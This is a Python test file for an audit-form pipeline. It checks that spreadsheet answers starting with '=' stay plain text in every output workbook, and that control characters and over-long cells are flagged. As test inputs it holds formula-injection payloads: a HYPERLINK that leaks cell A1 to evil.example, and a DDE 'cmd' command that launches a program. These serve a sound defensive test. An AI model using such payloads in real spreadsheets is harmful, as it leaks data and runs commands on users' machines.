"""Text stays text: answers beginning with ``=`` (formulas, links, DDE commands) are written as text in every
workbook the pipeline writes (allocations, validation, feedback, URGENT, reports); a roster value too. Control
characters and over-long text are reported (V030, V031), never silently changed."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from formkit import good_answers
from prepared import Templates
from relkit import caseaudit, fill, manifest, manifests, output_dir, real_month, rezip, xml_parts

from caseaudit_batch import session

pytestmark = pytest.mark.slow  # real allocate, ingest and report runs as child processes

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ZQFORMULA the child is safe")'
DDE = "=cmd|' /C calc'!A0 ZQFORMULA"
FORMULA_CELL = re.compile(r"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", re.S)


def _formula_answers(ctx: session.Context) -> dict[str, object]:
    answers: dict[str, object] = good_answers(ctx.framework)
    for name, value in list(answers.items()):
        if isinstance(value, str) and len(value) > 20:  # every free-text answer
            answers[name] = FORMULA + " " + value
    return answers


def test_formula_text_never_becomes_a_formula(tmp_path: Path, templates: Templates) -> None:
    config, forms = real_month(
        tmp_path / "qa", auditors=6, pause_reason='=HYPERLINK("http://x","ZQFORMULA")', templates=templates
    )
    ctx = session.open_context(config, "2026-09-01")
    answers = _formula_answers(ctx)
    ctx.close()
    inbox = config.parent / "inbox" / "audits"
    actions = [(DDE, "=SUM(1,2) ZQFORMULA", None)]
    (inbox / "accepted.xlsx").write_bytes(fill(forms[0], answers, [(DDE, "@SUM(1) ZQFORMULA", "2026-10-30")]))
    urgent = {**answers, "safeguarding_concern": "Yes", "safeguarding_detail": FORMULA}
    (inbox / "urgent.xlsx").write_bytes(fill(forms[1], urgent))
    (inbox / "returned.xlsx").write_bytes(fill(forms[2], {**answers, "s2_grade": FORMULA}, actions))
    ingested = caseaudit(config, "ingest", "--month", "2026-09")
    assert ingested.returncode == 65, ingested.stderr
    outcomes = {r["file"]: r["outcome"] for r in manifest(manifests(config)[-1])}
    assert outcomes == {"accepted.xlsx": "accepted", "urgent.xlsx": "accepted", "returned.xlsx": "returned"}
    reported = caseaudit(config, "report", "--month", "2026-09")
    assert reported.returncode == 0, reported.stderr

    written = sorted(p for p in output_dir(config).rglob("*.xlsx") if ".staging" not in p.parts)
    kinds = {"allocations", "validation", "feedback", "URGENT", "caseaudit-report"}
    assert all(any(k in p.name for p in written) for k in kinds), [p.name for p in written]
    carrying = set()
    for path in written:
        for part, xml in xml_parts(path).items():
            for formula in FORMULA_CELL.findall(xml):
                assert "ZQFORMULA" not in formula and "HYPERLINK" not in formula and "cmd|" not in formula, (
                    f"user text became a formula in {path.name} {part}"
                )
            if "ZQFORMULA" in xml:
                carrying.update(k for k in kinds if k in path.name)
    # The text is there, as text, in the workbooks meant to show it.
    assert {"allocations", "validation", "feedback", "URGENT", "caseaudit-report"} <= carrying


def test_control_characters_and_over_long_text_are_reported(tmp_path: Path, templates: Templates) -> None:
    config, forms = real_month(tmp_path / "qa", auditors=4, templates=templates)
    ctx = session.open_context(config, "2026-09-01")
    answers = {**good_answers(ctx.framework), "strengths": "ZQCONTROL", "org_learning": "ZQLONG"}
    ctx.close()
    blank = fill(forms[0], answers)
    sheet = "xl/worksheets/sheet1.xml"
    xml = zipfile.ZipFile(io.BytesIO(blank)).read(sheet)
    # How Excel itself stores a control character (_x0007_, a bell) and a cell over the 32,767-character limit.
    xml = xml.replace(b"ZQCONTROL", b"The child_x0007_ is seen alone and their wishes are recorded each visit.")
    xml = xml.replace(b"ZQLONG", b"x" * 33_000)
    inbox = config.parent / "inbox" / "audits"
    (inbox / "odd.xlsx").write_bytes(rezip(blank, {sheet: xml}))
    result = caseaudit(config, "ingest", "--month", "2026-09")
    [row] = manifest(manifests(config)[-1])
    assert row["outcome"] == "returned", (row, result.stdout)
    codes = row["codes"].split(";")
    assert "V030" in codes and "V031" in codes
